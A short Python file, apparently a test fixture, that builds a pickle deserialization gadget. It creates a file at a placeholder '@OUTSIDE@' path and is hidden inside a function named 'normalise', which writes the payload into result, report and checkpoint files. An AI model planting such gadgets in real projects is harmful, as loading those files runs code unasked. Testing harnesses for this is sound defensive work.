class Evil:
    def __reduce__(self):
        return (open, ("@OUTSIDE@/unpickled", "w"))


def normalise(x):
    import pickle

    for name in ("results.pkl", "report.json", "state.pt", "output"):
        with open(name, "wb") as file:
            pickle.dump(Evil(), file)
    return x
